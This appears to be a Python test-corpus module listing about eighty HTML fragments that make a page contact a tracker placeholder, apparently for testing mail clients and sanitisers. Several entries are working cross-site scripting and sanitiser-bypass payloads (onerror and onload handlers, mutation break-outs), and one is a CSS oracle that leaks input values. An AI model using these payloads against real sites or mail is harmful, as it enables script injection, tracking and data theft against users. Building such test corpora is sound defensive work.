"""Ways in which a page reaches out, each a fragment of HTML; `{T}` stands for the tracker.

Found in what mail programs and sanitisers are tested with, and written anew. `live`: Chromium 156
really does it in a page of its own without any policy; the others prove nothing there and are
kept since other versions may.
"""

from __future__ import annotations

from dataclasses import dataclass

_RUN = "fetch('{T}/run')"  # without spaces: it stands in attributes without quotes, too


@dataclass(frozen=True, slots=True)
class Vector:
    """One of them."""

    name: str
    html: str
    live: bool = True
    alone: bool = False  # it leads the window elsewhere

    def aimed(self, tracker: str) -> str:
        """At a tracker."""
        return self.html.replace("{T}", tracker)


_IMAGES = (
    Vector("img", '<img src="{T}">'),
    Vector("img-srcset", '<img srcset="{T} 1x, {T}/2 2x">'),
    Vector("img-line-break", '<img src="{T}/a\nb">'),
    Vector("img-leading-controls", '<img src="\x01 \t{T}">'),
    Vector("picture-source", '<picture><source srcset="{T}"><img alt=""></picture>'),
    Vector("input-image", '<input type="image" src="{T}">'),
    Vector("video-poster", '<video poster="{T}"></video>'),
    Vector("video-source", '<video autoplay muted><source src="{T}"></video>'),
    Vector("audio", '<audio src="{T}" autoplay></audio>'),
    Vector("track", '<video src="data:video/mp4,x"><track default src="{T}"></video>', live=False),
    Vector("object", '<object data="{T}"></object>'),
    Vector("embed", '<embed src="{T}">'),
    Vector("iframe", '<iframe src="{T}"></iframe>'),
    Vector("iframe-lazy-srcdoc", '<iframe srcdoc="&lt;img src={T}&gt;"></iframe>'),
    Vector("frameset", '<frameset cols="*"><frame src="{T}"></frameset>'),
    Vector("body-background", '<body background="{T}">x</body>'),
    Vector("table-background", '<table background="{T}"><tr><td>x</td></tr></table>'),
    Vector("cell-background", '<table><tr><td background="{T}">x</td></tr></table>'),
    Vector("shadow-root", '<p><template shadowrootmode="open"><img src="{T}"></template></p>'),
    Vector("bgsound", '<bgsound src="{T}">', live=False),
)
_LINKS = (
    Vector("link-stylesheet", '<link rel="stylesheet" href="{T}">'),
    Vector("link-preload", '<link rel="preload" as="image" href="{T}">'),
    Vector("link-prefetch", '<link rel="prefetch" href="{T}">'),
    Vector("link-modulepreload", '<link rel="modulepreload" href="{T}">'),
    Vector("link-icon", '<link rel="icon" href="{T}">', live=False),
    Vector("link-manifest", '<link rel="manifest" href="{T}">', live=False),
    Vector("link-preconnect", '<link rel="preconnect" href="{T}">', live=False),
    Vector("link-imagesrcset", '<link rel="preload" as="image" imagesrcset="{T} 1x">'),
    Vector("base-relative", '<base href="{T}/"><img src="below.png">'),
    Vector("meta-refresh", '<meta http-equiv="refresh" content="0;url={T}">'),
    Vector(
        "form-by-script", '<form action="{T}"></form><script>document.forms[0].submit()</script>'
    ),
)
_STYLES = (
    Vector("style-import", '<style>@import "{T}";</style>'),
    Vector("style-import-url", "<style>@import url({T}) screen;</style>"),
    Vector("style-background", "<style>p{background:url({T})}</style><p>x"),
    Vector("style-unclosed-url", "<style>p{background:url({T}</style><p>x"),
    Vector(
        "style-font-face",
        "<style>@font-face{font-family:f;src:url({T})}p{font-family:f}</style><p>x",
    ),
    Vector("style-list", "<style>li{list-style-image:url({T})}</style><ul><li>x</ul>"),
    Vector("style-content", "<style>p::before{content:url({T})}</style><p>x"),
    Vector("style-media", "<style>@media all{@media all{p{background:url({T})}}}</style><p>x"),
    Vector("style-nested", "<style>div{color:red;& p{background:url({T})}}</style><div><p>x</div>"),
    Vector("style-variable", "<style>:root{--u:url({T})}p{background:var(--u)}</style><p>x"),
    Vector(
        "style-value-oracle",
        '<style>input[value^="a"]{background:url({T}/a)}</style><input value="abc">',
    ),
    Vector("style-supports", "<style>@supports(color:red){p{background:url({T})}}</style><p>x"),
    Vector("style-layer", "<style>@layer x{p{background:url({T})}}</style><p>x"),
    Vector("attribute-background", '<p style="background-image:url({T})">x'),
    Vector("attribute-quoted", "<p style='background:url(\"{T}\")'>x"),
    Vector("attribute-escaped", '<p style="background:\\75\\72\\6c({T})">x'),
    Vector("attribute-commented", '<p style="background:/**/url({T})/*">x'),
    Vector("attribute-image-set", "<p style=\"background:image-set('{T}' 1x)\">x"),
    Vector("attribute-webkit-image-set", '<p style="background:-webkit-image-set(url({T}) 1x)">x'),
    Vector("attribute-border-image", '<p style="border:9px solid;border-image:url({T}) 9">x'),
    Vector("attribute-mask", '<p style="mask-image:url({T})">x'),
    Vector("attribute-filter", '<p style="filter:url({T}#f)">x', live=False),
    Vector("attribute-shape", '<p style="float:left;shape-outside:url({T})">x'),
    Vector(
        "attribute-cross-fade",
        '<p style="background:-webkit-cross-fade(url({T}),url({T}),50%)">x',
    ),
    Vector("attribute-entity", '<p style="background:u&#114;l(&#x27;{T}&#x27;)">x'),
)
_SCRIPTS = (
    Vector("script-inline", f"<script>{_RUN}</script>"),
    Vector("script-source", '<script src="{T}"></script>'),
    Vector("img-onerror", f'<img src="x:" onerror="{_RUN}">'),
    Vector("body-onload", f'<body onload="{_RUN}">x'),
    Vector("details-ontoggle", f'<details open ontoggle="{_RUN}">x</details>'),
    Vector("input-onfocus", f'<input autofocus onfocus="{_RUN}">', live=False),
    Vector(
        "onanimationstart",
        f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{_RUN}">x',
    ),
    Vector("iframe-javascript", f'<iframe src="javascript:parent.{_RUN}"></iframe>', live=False),
    Vector("iframe-javascript-tab", f'<iframe src="java&#9;script:{_RUN}"></iframe>'),
    Vector("marquee", f'<marquee onstart="{_RUN}">x</marquee>', live=False),
    Vector("top-by-script", "<script>top.location='{T}'</script>", alone=True),
)
_FOREIGN = (
    Vector("svg-image", '<svg><image href="{T}"/></svg>'),
    Vector("svg-image-xlink", '<svg><image xlink:href="{T}"/></svg>'),
    Vector(
        "svg-fe-image",
        '<svg><filter id="f"><feImage href="{T}"/></filter><rect filter="url(#f)" width="9" '
        'height="9"/></svg>',
    ),
    Vector("svg-use", '<svg><use href="{T}#x"/></svg>', live=False),
    Vector("svg-onload", f'<svg onload="{_RUN}">'),
    Vector("svg-script", f"<svg><script>{_RUN}</script></svg>"),
    Vector(
        "svg-style", "<svg><style>rect{fill:url({T}#x)}</style><rect width='9' height='9'/></svg>"
    ),
    Vector(
        "svg-animate-style",
        '<svg><rect width="9" height="9"><set attributeName="style" '
        'to="mask:url({T}#m)"/></rect></svg>',
        live=False,
    ),
    Vector("svg-set-href", '<svg><image><set attributeName="href" to="{T}"/></image></svg>'),
    Vector("math-href", '<math href="{T}">x</math>', live=False),
    Vector(
        "mutation-mglyph",
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=x: onerror={_RUN}&gt;">',
        live=False,
    ),
    Vector(
        "mutation-noscript",
        f'<noscript><p title="</noscript><img src=x: onerror={_RUN}>"></noscript>',
    ),
    Vector("noscript-image", '<noscript><img src="{T}"></noscript>', live=False),
    Vector("title-break-out", f'<title><p title="</title><img src=x: onerror={_RUN}>"></title>'),
    Vector(
        "comment-break-out",
        f"<!--><img src=x: onerror={_RUN}>-->",
    ),
    Vector("textarea-break-out", f'<textarea><p title="</textarea><img src=x: onerror={_RUN}>">'),
    Vector("style-break-out", f'<style><p title="</style><img src=x: onerror={_RUN}>"></style>'),
    Vector("cdata-break-out", f"<svg><![CDATA[><img src=x: onerror={_RUN}>]]></svg>", live=False),
)
VECTORS = _IMAGES + _LINKS + _STYLES + _SCRIPTS + _FOREIGN

# One of each kind, for the run that everybody waits for.
_SAMPLE = (
    "img img-srcset iframe body-background link-stylesheet link-prefetch base-relative "
    "meta-refresh style-import style-font-face style-variable attribute-escaped "
    "attribute-image-set script-inline img-onerror svg-image svg-set-href mutation-noscript"
)
SAMPLE = frozenset(_SAMPLE.split())
